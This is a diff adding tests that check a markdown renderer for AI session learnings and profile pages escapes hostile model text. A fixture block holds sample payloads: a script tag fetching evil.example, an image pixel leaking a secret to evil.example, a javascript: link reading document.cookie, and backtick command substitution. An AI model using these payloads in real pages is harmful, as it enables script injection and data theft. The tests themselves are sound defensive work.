@@ -118,3 +118,65 @@ describe('profile.md', () => {
     await expect(markdown).toMatchFileSnapshot('golden/profile.md');
   });
 });
+
+// Model text is untrusted: whatever it says, these pages stay data a person reads, never markup that
+// runs, loads or forges (README "Reliability").
+const HOSTILE = {
+  html: '<img src=x onerror=alert(1)><script>fetch("https://evil.example")</script>',
+  pixel: '![](https://evil.example/pixel.png?leak=secret)',
+  link: '[click me](javascript:alert(document.cookie))',
+  pipe: 'a | b || c',
+  backticks: 'echo `whoami` && cat ``x``',
+  forged: 'fine\n\n## Summary: forged\n\n- **Action:** forged',
+};
+
+function expectInert(md: string): void {
+  // A backslash before a markup character makes it text.
+  expect(md).not.toMatch(/(?<!\\)<(img|script)/i);
+  expect(md).not.toMatch(/(?<!\\)!(?<!\\)\[/);
+  expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
+  expect(md).not.toMatch(/^## Summary: forged/m);
+}
+
+describe('pages with hostile model text', () => {
+  const hostileTurn: TurnInsightView = {
+    ...base,
+    turnId: 't_h1',
+    turnSeq: 1,
+    summary: HOSTILE.html,
+    action: HOSTILE.pixel,
+    outcome: 'succeeded',
+    gaps: [{ gapId: 'g_h', topic: HOSTILE.pipe, question: HOSTILE.link, evidence: HOSTILE.forged, confidence: 0.5 }],
+    decisions: [{ choice: HOSTILE.pipe, why: HOSTILE.forged }],
+    successes: [HOSTILE.backticks],
+    nextTime: HOSTILE.link,
+    playbookSteps: [{ step: HOSTILE.forged, command: HOSTILE.backticks }],
+  };
+  const hostileSummary: SessionSummaryView = {
+    ...summary,
+    title: HOSTILE.forged,
+    highlights: [HOSTILE.html, HOSTILE.pixel, HOSTILE.link],
+    gapsResolved: [{ gapId: 'g_h', topic: HOSTILE.pipe, how: HOSTILE.forged }],
+    playbook: [{ step: HOSTILE.link, command: HOSTILE.backticks, why: HOSTILE.html }],
+  };
+
+  it('learnings.md shows it as text (golden file)', async () => {
+    const md = renderLearnings({ ...input, session: { ...session, projectName: HOSTILE.pipe }, summary: hostileSummary, turns: [hostileTurn] }, new Map([['t_h1', '2026-11-27T09:02:15.000Z']])).learnings;
+    expectInert(md);
+    // The header's table keeps its two cells.
+    expect(md.split('\n').find((l) => l.startsWith('| Project'))!.split(/(?<!\\)\|/)).toHaveLength(4);
+    await expect(md).toMatchFileSnapshot('golden/learnings-hostile.md');
+  });
+
+  it('profile.md shows it as text (golden file)', async () => {
+    const md = renderProfile({
+      project: { id: session.project, name: HOSTILE.html, sessionCount: 1, openGaps: 1, resolvedGaps: 1, lastActivityAt: session.lastActivityAt },
+      openGaps: [gap({ id: 'g_h', topic: HOSTILE.pipe, question: HOSTILE.pixel, evidence: HOSTILE.forged })],
+      resolvedGaps: [gap({ id: 'g_r', topic: HOSTILE.link, status: 'resolved', resolved: { turnId: null, how: null, by: 'person', note: HOSTILE.forged, at: '2026-11-25T11:00:00.000Z' } })],
+      recurringTopics: [{ topic: HOSTILE.html, timesSeen: 2 }],
+      recentSummaries: [hostileSummary],
+    });
+    expectInert(md);
+    await expect(md).toMatchFileSnapshot('golden/profile-hostile.md');
+  });
+});
